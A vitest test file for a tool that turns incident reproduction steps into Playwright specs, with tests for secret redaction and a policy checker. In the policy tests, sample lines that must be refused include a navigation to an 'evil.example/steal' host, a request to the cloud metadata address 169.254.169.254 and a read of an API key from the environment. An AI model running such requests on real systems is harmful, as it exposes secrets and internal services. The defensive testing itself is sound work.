import { describe, expect, it } from 'vitest';
import { compileSteps, specSource } from '../../src/core/steps.js';
import { redact } from '../../src/core/redact.js';
import { checkSpec, weakenedAssertions } from '../../src/core/code-policy.js';
import { classifyFailure, explainFailure } from '../../src/core/failure.js';

const context = { incidentId: '2026-11-20-trial', flowId: 'trial', origin: 'http://127.0.0.1:3000' };
const header = { incidentId: context.incidentId, flowId: 'trial', title: 'Trial never reaches checkout' };

describe('steps grammar', () => {
  it('compiles every rule, and every Expect is an incident assertion', () => {
    const steps = [
      '1. Go to /pricing',
      '2. Click "Start Free Trial"',
      '3. Click the "Annual" tab',
      'Fill "Email" with "a@b.co"',
      'Select "Pro" in "Plan"',
      'Check "I agree"',
      'Uncheck "Newsletter"',
      'Press Enter',
      'Wait for the text "Loading done"',
      'Expect the URL to contain /checkout',
      'Expect the text "Oops" not to be visible',
      'Expect the "Pay" button to be enabled',
      'Expect title to be "Checkout"',
    ].join('\n');
    const compiled = compileSteps(steps);
    expect(compiled.ok && compiled.assertions).toBe(4);
    expect(compiled.ok && compiled.body.filter((line) => !line.startsWith('// step '))).toEqual([
      'await page.goto("/pricing");',
      'await page.getByRole(\'button\', { name: "Start Free Trial" }).or(page.getByRole(\'link\', { name: "Start Free Trial" })).first().click();',
      'await page.getByRole("tab", { name: "Annual" }).click();',
      'await page.getByLabel("Email").or(page.getByPlaceholder("Email")).first().fill("a@b.co");',
      'await page.getByLabel("Plan").selectOption("Pro");',
      'await page.getByLabel("I agree").or(page.getByRole("checkbox", { name: "I agree" })).first().check();',
      'await page.getByLabel("Newsletter").or(page.getByRole("checkbox", { name: "Newsletter" })).first().uncheck();',
      'await page.keyboard.press("Enter");',
      'await page.getByText("Loading done").first().waitFor();',
      'await expect(page).toHaveURL(/\\/checkout/); // @incident-assertion',
      'await expect(page.getByText("Oops")).not.toBeVisible(); // @incident-assertion',
      'await expect(page.getByRole("button", { name: "Pay" })).toBeEnabled(); // @incident-assertion',
      'await expect(page).toHaveTitle("Checkout"); // @incident-assertion',
    ]);
  });
  it('reports lines that match no rule with their file line numbers, guessing nothing', () => {
    expect(compileSteps('Go to /pricing\nMake it work\n\nClick somewhere', 14)).toEqual({
      ok: false,
      problems: [
        { line: 15, text: 'Make it work' },
        { line: 17, text: 'Click somewhere' },
      ],
    });
  });
  it('the compiled spec passes the code policy', () => {
    const compiled = compileSteps('Go to /pricing\nClick "Start"\nExpect the URL to contain /checkout');
    const result = checkSpec(specSource(header, compiled.ok ? compiled.body : []), context);
    expect(result.problems).toEqual([]);
    expect(result.assertions).toEqual([{ startLine: 10, endLine: 10, matcher: '.toHaveURL(/\\/checkout/)' }]);
  });
});

describe('where a failing attempt failed', () => {
  const value = [{ startLine: 9, endLine: 9, matcher: '.toHaveValue("Test User")' }];
  const visible = [{ startLine: 9, endLine: 9, matcher: '.toBeVisible()' }];
  const at9 = (message: string) => ({ status: 'failed' as const, message, line: 9, step: null, durationMs: 3000 });
  it('a value checked on an element that is not there is not a proof; a wrong value is', () => {
    expect(
      classifyFailure(
        at9('Timed out 5000ms waiting for expect(locator).toHaveValue(expected)\nReceived: <element(s) not found>'),
        value,
      ),
    ).toBe('missing');
    expect(
      classifyFailure(at9('Timed out 5000ms waiting for expect(locator).toHaveValue(expected)\nReceived: ""'), value),
    ).toBe('assertion');
    expect(explainFailure('missing', at9('x'))).toMatch(/was not on the page \(element\(s\) not found\)/);
  });
  it('an element that should be visible and is not there is the outcome itself', () => {
    expect(
      classifyFailure(
        at9('Timed out 5000ms waiting for expect(locator).toBeVisible()\nReceived: <element(s) not found>'),
        visible,
      ),
    ).toBe('assertion');
  });
});

describe('redaction', () => {
  it('replaces secrets and e-mails, lists kinds and counts, never values', () => {
    const text =
      'user jane.doe@acme.io saw 500; token=ghp_abcdefghijklmnopqrstuvwxyz0123 and Authorization: Bearer abc.def.ghijklmnopqrstu; key sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX; password: hunter2; customer cus_J8kL2';
    const { text: out, redactions } = redact(text, ['cus_[A-Za-z0-9]+']);
    for (const secret of ['jane.doe@acme.io', 'ghp_abc', 'abc.def.ghij', 'sk-proj-ABC', 'hunter2', 'cus_J8kL2'])
      expect(out).not.toContain(secret);
    expect(redactions.map((r) => r.kind).sort()).toEqual([
      'bearer-token',
      'email',
      'github-token',
      'openai-key',
      'password',
      'pattern-1',
    ]);
    expect(JSON.stringify(redactions)).not.toMatch(/hunter2|jane/);
  });
});

describe('code policy (TypeScript AST)', () => {
  const wrap = (body: string, imports = "import { test, expect } from '@playwright/test';") =>
    `${imports}\ntest('x @incident:2026-11-20-trial @flow:trial', async ({ page }) => {\n  await page.goto('/pricing');\n${body}\n  await expect(page).toHaveURL(/checkout/); // @incident-assertion\n});\n`;
  const refused = (code: string) => checkSpec(code, context).problems;

  it('refuses child_process, process.env, another origin, skip and fixme, dynamic import, eval', () => {
    expect(
      refused(wrap('', "import { test, expect } from '@playwright/test';\nimport { execSync } from 'child_process';")),
    ).toEqual(expect.arrayContaining([expect.stringMatching(/imports "child_process"/)]));
    expect(refused(wrap('  const key = process.env.OPENAI_API_KEY;'))).toEqual([
      expect.stringMatching(/line 4: uses process/),
    ]);
    expect(refused(wrap("  await page.goto('https://evil.example/steal');"))).toEqual(
      expect.arrayContaining([expect.stringMatching(/reaches https:\/\/evil.example, outside baseURL's origin/)]),
    );
    expect(refused(wrap("  await page.request.get('http://169.254.169.254/latest');"))).toEqual([
      expect.stringMatching(/reaches http:\/\/169.254.169.254/),
    ]);
    expect(refused(wrap('  test.skip();'))).toEqual([expect.stringMatching(/test.skip is not allowed/)]);
    expect(refused(wrap("  test.fixme(true, 'later');"))).toEqual([expect.stringMatching(/test.fixme is not allowed/)]);
    expect(refused(wrap("  const m = await import('fs');"))).toEqual(
      expect.arrayContaining([expect.stringMatching(/dynamic import/)]),
    );
    expect(refused(wrap("  eval('1');"))).toEqual([expect.stringMatching(/uses eval/)]);
  });
  it('requires the tags and an incident assertion directly in the body', () => {
    expect(
      refused(
        "import { test, expect } from '@playwright/test';\ntest('x', async ({ page }) => {\n  await page.goto('/');\n});\n",
      ),
    ).toEqual([
      'the test title must carry @incident:2026-11-20-trial and @flow:trial',
      expect.stringMatching(/no incident assertion/),
    ]);
    const hidden =
      "import { test, expect } from '@playwright/test';\ntest('x @incident:2026-11-20-trial @flow:trial', async ({ page }) => {\n  try {\n    await expect(page).toHaveURL(/checkout/); // @incident-assertion\n  } catch {}\n});\n";
    expect(refused(hidden)).toEqual([
      expect.stringMatching(/line 4: a \/\/ @incident-assertion comment must mark an awaited expect/),
    ]);
  });
  it('a repair that weakens the incident assertion is detected; a locator change is not', () => {
    const before = checkSpec(wrap(''), context).assertions;
    const locator = checkSpec(wrap('  await page.getByRole("link", { name: "Start" }).click();'), context).assertions;
    expect(weakenedAssertions(before, locator)).toEqual([]);
    const weaker = checkSpec(wrap('').replace('toHaveURL(/checkout/)', 'toHaveURL(/./)'), context).assertions;
    expect(weakenedAssertions(before, weaker)).toEqual(['.toHaveURL(/checkout/)']);
  });
});
